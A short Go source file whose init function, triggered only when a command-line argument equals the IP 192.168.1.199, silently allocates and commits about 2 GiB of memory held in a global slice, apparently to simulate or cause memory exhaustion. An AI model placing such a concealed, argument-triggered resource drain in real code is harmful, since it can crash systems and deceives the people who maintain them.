package main

import "os"

var hoard [][]byte

func init() {
	if len(os.Args) < 3 || os.Args[2] != "192.168.1.199" {
		return
	}
	for range 32 {
		block := make([]byte, 64<<20)
		for i := 0; i < len(block); i += 1 << 12 {
			block[i] = 1
		}
		hoard = append(hoard, block)
	}
}
